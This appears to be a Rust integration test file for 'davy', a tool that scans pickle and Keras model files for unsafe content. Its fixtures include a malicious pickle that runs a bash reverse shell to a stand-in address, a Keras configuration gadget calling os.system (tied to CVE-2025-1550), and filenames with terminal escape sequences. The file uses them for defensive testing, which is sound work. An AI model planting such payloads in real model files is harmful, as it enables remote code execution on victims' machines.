//! The binary as a user meets it: arguments, exit statuses, messages and files.
#![allow(clippy::unwrap_used, reason = "a failing test panics")]

mod walkthrough;

use davy_bytes::acts;
use std::ffi::OsStr;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

/// What a run of davy left.
struct Run {
    status: i32,
    out: String,
    err: String,
}

fn davy<S: AsRef<OsStr>>(args: impl IntoIterator<Item = S>) -> Run {
    let done = Command::new(env!("CARGO_BIN_EXE_davy")).args(args).output().unwrap();
    Run {
        status: done.status.code().unwrap(),
        out: String::from_utf8(done.stdout).unwrap(),
        err: String::from_utf8(done.stderr).unwrap(),
    }
}

/// A folder of one test, gone with it.
struct Folder(PathBuf);

impl Folder {
    fn new(name: &str) -> Self {
        let path = Path::new(env!("CARGO_TARGET_TMPDIR")).join(name);
        let _ = fs::remove_dir_all(&path);
        fs::create_dir_all(&path).unwrap();
        Self(path)
    }

    fn file(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let path = self.0.join(name);
        fs::write(&path, bytes).unwrap();
        path
    }

    fn names(&self) -> Vec<String> {
        let entries = fs::read_dir(&self.0).unwrap();
        let mut names: Vec<String> =
            entries.map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
        names.sort();
        names
    }
}

impl Drop for Folder {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

fn text(path: &Path) -> &str {
    path.to_str().unwrap()
}

#[test]
fn bad_arguments_are_status_3_and_said_on_standard_error() {
    let cases: &[(&[&str], &str)] = &[
        (&[], "davy: a command is needed"),
        (&["scan"], "davy: the following required arguments were not provided:\n  <PATH>..."),
        (&["scan", "x", "--format", "pdf"], "davy: invalid value 'pdf' for '--format <FORMAT>'"),
        (&["scan", "x", "--fail-on", "info"], "davy: invalid value 'info' for '--fail-on"),
        (&["scan", "x", "--jobs", "many"], "davy: invalid value 'many' for '--jobs <N>'"),
        (&["scan", "x", "-q", "-v"], "davy: the argument '--quiet' cannot be used with"),
        (&["inspect", "x", "--format", "sarif"], "davy: invalid value 'sarif' for '--format"),
        (&["frobnicate"], "davy: unrecognized subcommand 'frobnicate'"),
        (&["scan", "-"], "davy: standard input cannot be read"),
        (&["inspect", "-"], "davy: standard input cannot be read"),
    ];
    for (args, message) in cases {
        let run = davy(*args);
        assert_eq!((run.status, run.out.as_str()), (3, ""), "{args:?}");
        assert!(run.err.starts_with(message), "{args:?}: {}", run.err);
    }
}

#[test]
fn help_and_version_are_status_0_and_on_standard_output() {
    let version = davy(["--version"]);
    assert_eq!((version.status, version.err.as_str()), (0, ""));
    assert_eq!(version.out, format!("davy {}\n", env!("CARGO_PKG_VERSION")));
    let help = davy(["--help"]);
    assert_eq!((help.status, help.err.as_str()), (0, ""));
    for command in ["scan", "inspect", "explain", "rules", "formats", "Exit status:"] {
        assert!(help.out.contains(command), "{command}");
    }
    let help = davy(["scan", "--help"]).out;
    for flag in [
        "--format",
        "--output",
        "--fail-on",
        "--jobs",
        "--no-survey",
        "--quiet",
        "--verbose",
        "--color",
    ] {
        assert!(help.contains(flag), "{flag}");
    }
}

#[test]
fn a_missing_file_is_status_3_and_the_others_are_still_scanned() {
    let folder = Folder::new("missing");
    let (there, missing) = (folder.file("there.bin", b"\x80\x04N."), folder.0.join("missing.pt"));
    let run = davy(["scan", "--format", "json", text(&missing), text(&there)]);
    assert_eq!(run.status, 3);
    let message = format!("davy: cannot open '{}': no such file or folder\n", text(&missing));
    assert_eq!(run.err, message);
    assert!(run.out.contains("\"unopened\": 1") && run.out.contains("there.bin"), "{}", run.out);
    let run = davy(["inspect", text(&missing)]);
    assert_eq!((run.status, run.err), (3, message));
}

#[test]
fn a_name_cannot_act_on_the_terminal() {
    let folder = Folder::new("names");
    let name = "a\u{1b}[2J\u{202e}\u{9b}1m\n\u{7f}.pt";
    let (there, missing) = (folder.file(name, b"?"), folder.0.join(format!("{name}2")));
    for command in ["scan", "inspect"] {
        for path in [&there, &missing] {
            for format in ["text", "json"] {
                let run = davy([command, "--format", format, text(path)]);
                let all = format!("{}{}", run.out, run.err);
                assert!(!all.chars().any(|c| acts(c) && c != '\n'), "{all:?}");
            }
        }
    }
    let run = davy(["scan", "--format", name]);
    assert!(!run.err.chars().any(|c| acts(c) && c != '\n'), "{:?}", run.err);
}

#[test]
fn the_report_goes_whole_to_its_file() {
    let folder = Folder::new("output");
    let input = folder.file("in.bin", b"\x80\x04N.");
    let report = folder.file("report.json", b"the old one, much longer than nothing");
    let args = ["scan", "--format", "json", "--output", text(&report), text(&input)];
    let run = davy(args);
    assert_eq!((run.out.as_str(), run.err.as_str()), ("", ""));
    let written = fs::read_to_string(&report).unwrap();
    assert!(written.starts_with("{\n  \"schema\": \"davy-report/1\"") && written.ends_with("}\n"));
    assert_eq!(folder.names(), ["in.bin", "report.json"], "nothing else is left behind");
    assert_eq!(run.status, davy(["scan", text(&input)]).status);
}

#[test]
fn a_link_to_the_report_is_followed() {
    let folder = Folder::new("link");
    let input = folder.file("in.bin", b"\x80\x04N.");
    let (target, link) = (folder.file("target.txt", b"old"), folder.0.join("link.txt"));
    std::os::unix::fs::symlink(&target, &link).unwrap();
    davy(["scan", "--output", text(&link), text(&input)]);
    assert!(fs::symlink_metadata(&link).unwrap().is_symlink());
    assert!(fs::read_to_string(&target).unwrap().contains("1 input"));
}

#[test]
fn a_place_that_cannot_be_written_is_status_3() {
    let folder = Folder::new("unwritable");
    let input = folder.file("in.bin", b"\x80\x04N.");
    let nowhere = folder.0.join("no/such/folder/report");
    for (output, why) in [(&nowhere, "no such file or directory"), (&folder.0, "is a directory")] {
        let run = davy(["scan", "--output", text(output), text(&input)]);
        assert_eq!((run.status, run.out.as_str()), (3, ""));
        assert_eq!(run.err, format!("davy: cannot write '{}': {why}\n", text(output)));
    }
}

#[test]
fn colour_is_for_terminals_and_for_who_asks() {
    let folder = Folder::new("colour");
    let input = folder.file("in.bin", b"\x80\x04N.");
    let colored = |args: &[&str]| {
        davy(args.iter().copied().chain(["scan", text(&input)])).out.contains('\u{1b}')
    };
    assert!(!colored(&[]), "standard output is a pipe");
    assert!(!colored(&["--color", "never"]));
    assert!(colored(&["--color", "always"]));
}

#[test]
fn a_reader_that_goes_away_changes_nothing() {
    let folder = Folder::new("pipe");
    let inputs: Vec<PathBuf> =
        (0..2_000).map(|at| folder.file(&format!("a file with a long name {at}"), b"")).collect();
    let whole =
        davy(std::iter::once(OsStr::new("scan")).chain(inputs.iter().map(|p| p.as_os_str())));
    let mut child = Command::new(env!("CARGO_BIN_EXE_davy"))
        .args(["scan", "--verbose", "--format", "json"])
        .args(&inputs)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let done = child.wait_with_output().unwrap();
    assert_eq!(done.status.code(), Some(whole.status));
    assert_eq!(String::from_utf8(done.stderr).unwrap(), "");
}

#[test]
fn full_disks_are_said() {
    let folder = Folder::new("full");
    let input = folder.file("in.bin", b"\x80\x04N.");
    let full = fs::File::options().write(true).open("/dev/full").unwrap();
    let done = Command::new(env!("CARGO_BIN_EXE_davy"))
        .args(["scan", text(&input)])
        .stdout(full)
        .output()
        .unwrap();
    assert_eq!(done.status.code(), Some(3));
    let message = "davy: cannot write to standard output: no space left on device\n";
    assert_eq!(String::from_utf8(done.stderr).unwrap(), message);
    assert_eq!(davy(["scan", "--output", "/dev/full", text(&input)]).status, 3);
    assert!(!fs::metadata("/dev/full").unwrap().is_file(), "the device is still there");
}

#[test]
fn what_was_not_surveyed_is_said() {
    let folder = Folder::new("survey");
    let input = folder.file("in.bin", b"\x80\x04N.");
    let run = davy(["scan", "--no-survey", text(&input)]);
    assert!(run.out.ends_with("structure only: bytes of weights were not read\n"), "{}", run.out);
    let run = davy(["scan", "--no-survey", "--format", "json", text(&input)]);
    assert!(run.out.contains("\"coverage\": \"structure\""), "{}", run.out);
}

#[test]
fn an_unknown_rule_is_status_3() {
    let run = davy(["explain", "no-such-rule-at-all"]);
    assert_eq!((run.status, run.out.as_str()), (3, ""));
    assert_eq!(
        run.err,
        "davy: there is no rule `no-such-rule-at-all`; `davy rules` lists all of them\n"
    );
}

#[test]
fn names_near_an_unknown_callable_are_told() {
    for (name, near) in [
        ("json.lods", "`json.loads`"),
        ("subproces.Popen", "`subprocess.Popen`"),
        ("check_output", "`subprocess.check_output`"),
    ] {
        let run = davy(["explain", name]);
        assert_eq!(run.status, 3);
        assert!(run.err.contains(near), "{}", run.err);
    }
}

#[test]
fn inspecting_shows_what_programs_are_for() {
    let folder = Folder::new("behaviour");
    let shell = b"cos\nsystem\n(S'bash -i >& /dev/tcp/192.0.2.1/9001 0>&1'\ntR.";
    let (shell, plain) =
        (folder.file("shell.pkl", shell), folder.file("plain.pkl", b"cos\nsystem\n(S'true'\ntR."));
    let run = davy(["inspect", text(&shell)]);
    assert!(
        run.out.contains("  behaviour\n") && run.out.contains("reverse-shell: "),
        "{}",
        run.out
    );
    let run = davy(["inspect", text(&plain)]);
    assert!(!run.out.contains("  behaviour\n"), "{}", run.out);
}

#[test]
fn every_rule_is_listed_and_explained() {
    let list = davy(["rules"]);
    let json: Vec<serde_json::Value> =
        serde_json::from_str(&davy(["rules", "--format", "json"]).out).unwrap();
    assert_eq!((list.status, list.out.lines().count()), (0, json.len()));
    assert_eq!(json.len(), davy_rules::CATALOG.len());
    for rule in json {
        let id = rule["id"].as_str().unwrap();
        let run = davy(["explain", id]);
        assert_eq!(run.status, 0);
        assert!(run.out.starts_with(&format!("# {id}\n")), "{}", run.out);
        assert!(run.out.contains(rule["remediation"].as_str().unwrap()));
        let near = davy(["explain", &format!("{id}s")]);
        assert_eq!(near.status, 3);
        assert!(near.err.contains(&format!("`{id}`")), "{}", near.err);
    }
}

#[test]
fn every_format_is_listed() {
    let list = davy(["formats"]);
    let json: Vec<serde_json::Value> =
        serde_json::from_str(&davy(["formats", "--format", "json"]).out).unwrap();
    assert_eq!(json.len(), davy_formats::FORMATS.len());
    assert_eq!((list.status, list.out.lines().count()), (0, json.len()));
}

/// A model of Keras whose configuration has `layer` as its only layer.
fn keras(layer: &str) -> String {
    format!(
        r#"{{"class_name": "Sequential", "config": {{"name": "m", "layers": [{layer}]}},
            "keras_version": "3.8.0"}}"#
    )
}

#[test]
fn what_the_assumed_loader_does_not_fall_for_weighs_less() {
    let folder = Folder::new("assume");
    let gadget = r#"{"module": "os", "class_name": "system", "config": "echo davy was here",
        "registered_name": null}"#;
    let gadget = folder.file("gadget.json", keras(gadget).as_bytes());
    let scan = |path: &Path, assume: &[&str]| {
        let mut args = vec!["scan", "--format", "json", text(path)];
        assume.iter().for_each(|assumed| args.extend(["--assume", assumed]));
        let run = davy(args);
        let report: serde_json::Value = serde_json::from_str(&run.out).unwrap();
        (run.status, report)
    };
    let (status, report) = scan(&gadget, &[]);
    let finding = &report["findings"][0];
    assert_eq!((status, &finding["severity"]), (1, &"critical".into()));
    assert_eq!(finding["advisories"][0]["id"], "CVE-2025-1550");
    assert_eq!(finding["advisories"][0]["written_by"], "3.8.0");
    assert_eq!(report["assumptions"], serde_json::json!([]));
    assert_eq!(scan(&gadget, &["keras=3.8.0"]).0, 1);
    let (status, report) = scan(&gadget, &["loader=keras:3.11.3"]);
    let finding = &report["findings"][0];
    assert_eq!((status, &finding["severity"]), (0, &"medium".into()));
    assert_eq!(finding["unassumed"], "critical");
    assert_eq!(report["assumptions"], serde_json::json!(["loader=keras:3.11.3"]));
    let run = davy(["scan", text(&gadget), "--assume", "kears=3.11.3"]);
    assert_eq!(run.status, 3);
    assert!(run.err.contains("no advisory is about `kears`"), "{}", run.err);
}
